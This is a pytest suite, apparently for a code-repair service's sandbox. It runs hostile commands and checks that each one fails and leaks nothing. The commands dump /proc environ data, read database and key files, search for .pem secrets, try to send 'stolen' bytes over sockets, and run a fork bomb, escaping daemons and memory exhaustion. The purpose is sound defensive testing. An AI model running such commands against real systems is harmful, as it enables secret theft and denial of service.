"""Hostile repository code, run as repairbot runs it: every attempt on the worker fails.

Each test runs real commands through :func:`app.sandbox.runner.run_command` (or a
real command agent) in the real sandbox, with a worker's secrets laid out
around it (see conftest), and checks both that the attempt failed and that
no secret reached the command's output.
"""

from __future__ import annotations

import asyncio
import os
import secrets
import shutil
import signal
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from app.agent import AgentRequest, CommandAgent
from app.github.objcache import CacheKey, ObjectCache
from app.repo_config import Command
from app.sandbox import Isolation, SandboxUnavailable
from app.sandbox.runner import CommandRun, ResourceLimits, run_command
from app.workspace import Workspace, build_workspace, remove_workspace
from tests.agent.sample_repo import SampleRepo
from tests.sandbox.conftest import ALL_SECRETS, Worker

PY = sys.executable


async def run(worker: Worker, ws: Workspace, script: str, **kwargs: Any) -> CommandRun:
    kwargs.setdefault("time_limit", 20)
    kwargs.setdefault("sandbox", worker.sandbox)
    return await run_command(
        Command(shell=script), cwd=ws.repo, home=ws.home, tmpdir=ws.tmp, **kwargs
    )


def marker() -> str:
    return f"{700 + secrets.randbelow(10**6)}.{os.getpid()}"


def host_processes_with(mark: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if mark.encode() in (entry / "cmdline").read_bytes():
                    state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
                    if state != "Z":
                        found.append(int(entry.name))
            except OSError:
                continue
    return found


async def gone(mark: str, within: float = 10.0) -> bool:
    for _ in range(int(within / 0.05)):
        if not host_processes_with(mark):
            return True
        await asyncio.sleep(0.05)
    return False


async def test_the_workers_environment_is_out_of_reach(
    worker: Worker, workspace: Workspace
) -> None:
    script = (
        "cat /proc/$PPID/environ /proc/1/environ /proc/self/environ; "
        "for f in /proc/[0-9]*/environ; do cat $f; done; "
        f"cat /proc/{os.getpid()}/environ; cat /proc/{os.getppid()}/environ; env"
    )
    out = await run(worker, workspace, script)
    assert worker.leaked(out.output) == []
    # It saw only its own PID namespace: the worker's pid does not exist there.
    assert f"/proc/{os.getpid()}/environ: No such file".encode() in out.output


async def test_the_data_directory_database_key_and_siblings_are_absent(
    worker: Worker, workspace: Workspace
) -> None:
    script = (
        f"ls -la {worker.data_dir} {worker.data_dir}/workspaces; "
        f"cat {worker.database} {worker.data_dir}/evidence/artifact {worker.key_file}; "
        f"cat {worker.sibling.repo}/secret.txt; ls {worker.sibling.root}; "
        f"ls -la {Path.home()}; cat {Path.home()}/.bash_history; "
        "grep -r secret / --include='*.pem' -l 2>/dev/null | head; "
        "echo FOUND:; find / -name repairbot.db 2>/dev/null; echo searched"
    )
    out = await run(worker, workspace, script, time_limit=120)
    assert b"searched" in out.output
    assert worker.leaked(out.output) == []
    text = out.output.decode()
    assert f"cannot access '{worker.sibling.root}'" in text
    for path in (worker.database, worker.key_file, worker.sibling.repo / "secret.txt"):
        assert f"cat: {path}: No such file or directory" in text
    assert text.split("FOUND:\n")[1].startswith("searched")  # no database anywhere


async def test_no_network_not_even_the_workers_loopback(
    worker: Worker, workspace: Workspace
) -> None:
    got: list[bytes] = []

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        got.append(await reader.read(100))
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    code = (
        "import socket\n"
        "for host in ('127.0.0.1', '10.0.2.2', '1.1.1.1', '8.8.8.8'):\n"
        "    try:\n"
        f"        socket.create_connection((host, {port} if host == '127.0.0.1' else 53), 3)"
        ".sendall(b'stolen')\n"
        "        print('REACHED', host)\n"
        "    except OSError as exc:\n"
        "        print('blocked', host, exc)\n"
    )
    try:
        out = await run(worker, workspace, f'{PY} -c "{code}"')
    finally:
        server.close()
        await server.wait_closed()
    assert b"REACHED" not in out.output and out.output.count(b"blocked") == 4
    assert got == [] and out.result.network is False


async def test_setup_asking_for_the_network_gets_the_proxy_not_the_hosts_interfaces(
    worker: Worker, workspace: Workspace
) -> None:
    """The host's network namespace is never shared (tests/sandbox/test_egress.py)."""
    interfaces = "cat /proc/net/dev | tail -n +3 | cut -d: -f1; echo proxy=$HTTPS_PROXY"
    closed = await run(worker, workspace, interfaces)
    opened = await run(worker, workspace, interfaces, network=True)
    assert closed.output.split() == [b"lo", b"proxy="] and not closed.result.network
    assert opened.output.split() == [b"lo", b"proxy=http://127.0.0.1:3128"]
    assert opened.result.network


async def test_a_daemon_does_not_outlive_its_command(worker: Worker, workspace: Workspace) -> None:
    mark = marker()
    script = (
        f"(setsid sh -c 'trap \"\" HUP TERM; sleep {mark}' </dev/null >/dev/null 2>&1 &); "
        f"nohup setsid sleep {mark} >/dev/null 2>&1 & echo spawned"
    )
    out = await run(worker, workspace, script)
    assert out.result.passed and b"spawned" in out.output
    assert await gone(mark)


@pytest.mark.slow
async def test_a_fork_bomb_is_contained(worker: Worker, workspace: Workspace) -> None:
    mark = marker()
    limits = replace(worker.sandbox.limits, tasks=64)
    sandbox = replace(worker.sandbox, limits=limits)
    bomb = f"b() {{ sleep {mark} & b | b & }}; b; wait"
    out = await run(worker, workspace, bomb, sandbox=sandbox, time_limit=5)
    assert not out.result.passed
    assert await gone(mark)
    # The worker itself can still start processes.
    after = await run(worker, workspace, "echo still-fine")
    assert after.output == b"still-fine\n"


async def test_filling_memory_kills_the_command_not_the_worker(
    worker: Worker, workspace: Workspace
) -> None:
    limits = replace(worker.sandbox.limits, memory_bytes=128 * 1024**2, address_space_bytes=None)
    sandbox = replace(worker.sandbox, limits=limits)
    code = "b = b'x' * (1024 ** 3); print('allocated', len(b))"
    out = await run(worker, workspace, f'{PY} -c "{code}"', sandbox=sandbox)
    assert b"allocated" not in out.output
    assert out.result.exit_code in (-signal.SIGKILL, 137, 1)


async def test_writes_outside_the_workspace_fail_or_vanish(
    worker: Worker, workspace: Workspace
) -> None:
    tag = secrets.token_hex(4)
    targets = [
        Path("/usr/local") / f"pwned-{tag}",
        Path("/etc") / f"pwned-{tag}",
        worker.data_dir / f"pwned-{tag}",
        worker.sibling.repo / f"pwned-{tag}",
        Path("/tmp") / f"pwned-{tag}",
        workspace.git_dir / f"pwned-{tag}",
    ]
    script = "; ".join(f"echo x > {t}" for t in targets) + "; echo ok > inside.txt; id -u"
    out = await run(worker, workspace, script)
    for target in targets:
        assert not target.exists(), target
    assert (workspace.repo / "inside.txt").read_text() == "ok\n"
    if os.geteuid() == 0:
        assert out.output.strip().endswith(b"65534")  # nobody, not root


async def test_hidden_paths_inside_a_readable_directory_are_masked(
    worker: Worker, workspace: Workspace, tmp_path: Path
) -> None:
    tools = tmp_path / "tools"
    (tools / "private").mkdir(parents=True)
    (tools / "run.sh").write_text("echo tool-ran\n")
    (tools / "key.pem").write_text(ALL_SECRETS[0])
    (tools / "private" / "data").write_text(ALL_SECRETS[1])
    isolation = Isolation(
        mode=worker.sandbox.isolation.mode,
        read_only=(tools,),
        hidden=(tools / "key.pem", tools / "private", worker.data_dir),
    )
    sandbox = replace(worker.sandbox, isolation=isolation)
    script = f"sh {tools}/run.sh; cat {tools}/key.pem; ls {tools}/private; cat {tools}/private/data"
    out = await run(worker, workspace, script, sandbox=sandbox)
    assert b"tool-ran" in out.output and worker.leaked(out.output) == []


async def test_a_hostile_command_agent_gets_nothing_into_its_proposal(
    worker: Worker, workspace: Workspace
) -> None:
    steal = (
        "{ env; cat /proc/*/environ | tr '\\0' '\\n'; "
        f"cat {worker.key_file} {worker.database} {worker.sibling.repo}/secret.txt; "
        f"ls -R {worker.data_dir}; "
        f"{PY} -c \"import socket; socket.create_connection(('127.0.0.1', 5432), 2)\"; "
        "} > stolen.txt 2>&1; echo '# edited' >> calc.py"
    )
    agent = CommandAgent(Command(shell=steal), time_limit=30, sandbox=worker.sandbox)
    proposal = await agent.propose(
        AgentRequest(
            workspace=workspace,
            issue_title="t",
            issue_body="b",
            reproduction=["true"],
            reproduction_output="",
        )
    )
    assert "stolen.txt" in proposal.files_changed and "calc.py" in proposal.files_changed
    stolen = (workspace.repo / "stolen.txt").read_bytes()
    assert worker.leaked(proposal.patch, proposal.transcript, stolen) == []
    assert b"No such file or directory" in stolen and b"Connection refused" in stolen
    assert "+++ b/stolen.txt" in proposal.patch  # a text file: the check above sees it all


async def test_no_sandbox_means_no_run(
    worker: Worker, workspace: Workspace, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    empty = tmp_path / "no-tools"
    empty.mkdir()
    os.symlink("/bin/sh", empty / "sh")
    monkeypatch.setenv("PATH", str(empty))  # neither bwrap nor unshare can be found
    for mode in ("auto", "bwrap", "unshare"):
        refused = replace(worker.sandbox, isolation=Isolation(mode=mode))
        with pytest.raises(SandboxUnavailable, match="Repository code was not run"):
            await run(worker, workspace, "echo ran > ran.txt", sandbox=refused)
    assert not (workspace.repo / "ran.txt").exists()


async def test_the_operator_may_turn_it_off(worker: Worker, workspace: Workspace) -> None:
    trusted = replace(worker.sandbox, isolation=Isolation(mode="none"))
    out = await run(worker, workspace, "echo ran > ran.txt; echo done", sandbox=trusted)
    assert out.result.sandbox == "none" and (workspace.repo / "ran.txt").exists()
    sandboxed = await run(worker, workspace, "true")
    assert sandboxed.result.sandbox == worker.sandbox.isolation.mode


def test_resource_limit_defaults_bound_the_tree() -> None:
    limits = ResourceLimits()
    assert limits.memory_bytes is not None and limits.tasks is not None


async def test_auto_falls_back_to_unshare_without_bubblewrap(
    worker: Worker, workspace: Workspace, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    tools = tmp_path / "only-unshare"
    tools.mkdir()
    for program in ("sh", "unshare", "id"):
        found = shutil.which(program)
        assert found is not None
        os.symlink(found, tools / program)
    monkeypatch.setenv("PATH", str(tools))  # not visible inside: programs by absolute path
    auto = replace(worker.sandbox, isolation=Isolation(mode="auto"))
    script = "/usr/bin/id -u; /bin/cat /proc/net/dev | /usr/bin/wc -l"
    out = await run_command(
        Command.of(["/bin/sh", "-c", script]),
        cwd=workspace.repo,
        home=workspace.home,
        tmpdir=workspace.tmp,
        time_limit=20,
        sandbox=auto,
    )
    assert out.result.sandbox == "unshare" and out.result.passed
    if os.geteuid() == 0:
        assert out.output.split()[0] == b"65534"
    assert out.output.split()[1] == b"3"  # the header lines and lo: no network


async def test_the_workers_git_object_cache_is_out_of_reach(
    worker: Worker, sample_repo: SampleRepo
) -> None:
    """A workspace built from the worker's object cache: the command's
    ``.git`` names no path outside the workspace, the cache is not in its view
    at all, and git works there without it."""
    cache = ObjectCache(worker.data_dir / "git-cache")
    async with cache.lease(
        CacheKey(1, 100), sample_repo.base_sha, remote_url=sample_repo.url, token=None
    ) as entry:
        ws = await build_workspace(
            worker.data_dir / "workspaces",
            clone_url=sample_repo.url,
            base_sha=sample_repo.base_sha,
            patch=None,
            objects=entry,
        )
        try:
            script = (
                "cat .git/objects/info/alternates; "
                f"ls {cache.root} {entry}; "
                "echo FOUND:; find / -path '*git-cache*' 2>/dev/null; echo searched; "
                "git cat-file -t HEAD; git fsck --connectivity-only --no-dangling && echo SOUND"
            )
            out = await run(worker, ws, script, time_limit=120)
        finally:
            remove_workspace(ws)
    cache.close()
    text = out.output.decode()
    assert "cat: .git/objects/info/alternates: No such file or directory" in text
    assert f"cannot access '{cache.root}'" in text and f"cannot access '{entry}'" in text
    assert text.split("FOUND:\n")[1].startswith("searched")
    assert "\ncommit\n" in text and "SOUND" in text, text
